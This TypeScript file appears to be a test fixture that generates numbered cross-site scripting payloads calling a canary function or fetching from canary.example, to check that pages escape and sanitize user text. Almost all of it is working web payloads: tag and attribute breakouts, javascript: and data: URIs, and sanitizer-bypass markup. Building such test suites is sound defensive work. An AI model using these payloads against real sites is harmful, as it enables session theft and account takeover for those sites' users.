/**
 * Texts that try to become code, or to fetch something, wherever a page shows them unescaped. Whatever runs calls
 * `canary` with its own number; whatever fetches asks for that number at canary.example.
 */
export interface Trick {
  number: number
  text: string
  /** It needs a template engine, a second decoding or another parser: no browser runs it, however it is shown. */
  isInert: boolean
}

const FAR = '//canary.example/'

type Write = (run: string, far: string) => string

/** Short ones, which break out of where a text stands: an element, a quoted attribute, a title, a script, a comment. */
const BREAKOUTS: Write[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<svg/onload=${run}>`,
  (run) => `"><img src=x onerror=${run}>`,
  (run) => `'><img src=x onerror=${run}>`,
  (run) => `" autofocus onfocus=${run} x="`,
  (run) => `' autofocus onfocus=${run} x='`,
  (run) => `</title><script>${run}</script>`,
  (run) => `</textarea><script>${run}</script>`,
  (run) => `</style><script>${run}</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `"}</script><svg onload=${run}>`,
  (run) => `--><script>${run}</script>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>">`,
  (run) => `\u202E<img src=x onerror=${run}>\u202C`,
  (run) => `\u200B<\u200Bb><img\u200B><img src=x onerror=${run}>`,
  (_run, far) => `<img src=${far}>`,
  (_run, far) => `<p style="background:url(${far})">x</p>`,
]

const INERT_BREAKOUTS: Write[] = [
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => '${' + run + '}<%= ' + run + ' %>#{' + run + '}',
  (run) => `＜script＞${run}＜/script＞`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  (run) => `javascript:${run}`,
  (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  () => `\u202Egnp.exe\u2066\u200F\u061C`,
  () => `Z\u0335\u0321a\u0336l\u0337\u200D\uFEFF\u00AD`,
]

/** Those that make sense where markup is allowed and cleaned. */
const MARKUP: Write[] = [
  (run) => `<ScRiPt src="data:text/javascript,${run}"></sCrIpT>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script href="data:text/javascript,${run}" /></svg>`,
  (run) => `<body onload=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<object data="x" onerror=${run}></object>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  (run) => `<style onload=${run}></style>`,
  (run) => `<p tabindex=1 onclick="${run}" style="color:red">click</p>`,
  (run) => `<img src="x" onerror="${run}" alt="a" title='b'>`,
  (run) => `<IMG """><img src=x onerror="${run}">">`,
  (run) => `<img/src="x"/onerror="${run}"/>`,
  (run) => `<img\u000Csrc=x\u000Conerror=${run}>`,
  (run) => `<a href="JaVaScRiPt:${run}">x</a>`,
  (run) => `<a href="jav&#x09;ascript:${run}">x</a>`,
  (run) => `<a href="java\nscript:${run}">x</a>`,
  (run) => `<a href="&#1;javascript:${run}">x</a>`,
  (run) => `<a href="javascript&colon;${run}">x</a>`,
  (run) => `<a href=" javascript:void(0);${run}//https://safe.example">x</a>`,
  (run) => `<a href="data:text/html,<script>${run}</script>">x</a>`,
  (run) => `<area href="javascript:${run}">`,
  (run) => `<svg><a href="javascript:${run}"><text y="9">x</text></a></svg>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text y="9">x</text></a></svg>`,
  (run) => `<form action="javascript:${run}"><button>go</button></form>`,
  (run) => `<form><button formaction="javascript:${run}">go</button></form>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
  (run) => `<iframe srcdoc="&lt;img src=x onerror=parent.${run}&gt;"></iframe>`,
  (run) => `<object data="data:text/html,<script>${run}</script>"></object>`,
  (run) => `<embed src="data:text/html,<script>${run}</script>">`,
  (_run, far) => `<link rel="stylesheet" href="${far}">`,
  (_run, far) => `<style>@import url("${far}");</style>`,
  (_run, far) => `<style>*{background:url(${far})}</style>`,
  (_run, far) => `<video poster="${far}"></video>`,
  (_run, far) => `<input type=image src="${far}">`,
  (_run, far) => `<svg><image href="${far}"/></svg>`,
  (_run, far) => `<iframe src="${far}"></iframe>`,
  (_run, far) => `<table background="${far}"><tr><td>x</td></tr></table>`,
  // What one parser reads as a text and another as an element.
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  (run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  (run) => `<p><svg><style><!--</style><img src=x onerror=${run}>--></style></svg></p>`,
  (run) => `<template><style><!--</template><a href="--></style><img src=x onerror=${run}>">`,
  (run) => `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${run}>">`,
  (run) => `<xmp><p title="</xmp><svg/onload=${run}>">`,
  (run) => `<textarea><p title="</textarea><img src=x onerror=${run}>"></textarea>`,
  (run) => `<title><p title="</title><img src=x onerror=${run}>"></title>`,
  (run) => `<iframe><p title="</iframe><img src=x onerror=${run}>"></iframe>`,
  (run) => `<b title='"><img src=x onerror=${run}>'><img src=x onerror=${run}></b>`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<!--!><img src=x onerror=${run}>--!><img src=x onerror=${run}>`,
  (run) => `<![CDATA[><img src=x onerror=${run}>]]>`,
  (run) => `<?xml ><img src=x onerror=${run}>?>`,
  (run) => `<action-text-attachment sgid="x" content="<img src=x>"><img src=x onerror=${run}></action-text-attachment>`,
  (run) => `<action-text-attachment data-file="x"></action-text-attachment>\uE0000\uE001<img src=x onerror=${run}>`,
  (run) => `<div is="x" onpointerrawupdate=${run}></div><img src=x onerror=${run}>`,
]

const INERT_MARKUP: Write[] = [
  // These run only where a text is put into markup that was cleaned before.
  (run) => `<a href="https://x/&#xE000;0&#xE001;<img src=x onerror=${run}>">x</a><action-text-attachment sgid="x">`,
  (run) => `<a href="https://x/&#1;0&#2;<img src=x onerror=${run}>">x</a><action-text-attachment sgid="x">`,
  (run) => `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  (run) => `<plaintext>&lt;img src=x onerror=${run}&gt;`,
  (run) => `<a href="vbscript:${run}">x</a>`,
  (run) => `<base href="${FAR}"><p title="${run}">x</p>`,
  (run) => `<p id=canary name=body title="${run}">x</p>`,
  // These run only when somebody writes them out and reads them in again.
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></table></mtext></math>`,
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  (run) => `<p><b><svg><![CDATA[</b><img src=x onerror=${run}>]]></svg></b></p>`,
]

let number = 0
const tricks = (writes: Write[], isInert: boolean): Trick[] =>
  writes.map((write) => ({ number: ++number, text: write(`canary(${number})`, `${FAR}${number}`), isInert }))

/** For every text of one line. */
export const LINES = [...tricks(BREAKOUTS, false), ...tricks(INERT_BREAKOUTS, true)]

/** For every text with markup. */
export const TRICKS = [...LINES, ...tricks(MARKUP, false), ...tricks(INERT_MARKUP, true)]

/** The lines, as many together as a name can hold: what escapes one of them escapes them all. */
export const bundles = (lines: readonly Trick[], most: number): string[] => {
  const filled = ['']
  for (const { text } of lines) {
    const longer = filled.at(-1) === '' ? text : `${filled.at(-1)} ${text}`
    if (longer.length <= most) filled[filled.length - 1] = longer
    else filled.push(text)
  }
  return filled
}

/** A text in every place of a page where texts stand, as a page would show it that forgot to escape. */
export const carelessPage = (text: string) => `<!doctype html><html><head><meta charset="utf-8"><title>${text}</title>
<style>/* ${text} */</style><script type="application/ld+json">{"name":"${text}"}</script></head>
<body><!-- ${text} --><h1>${text}</h1><input value="${text}"><input value='${text}'><textarea>${text}</textarea></body></html>`
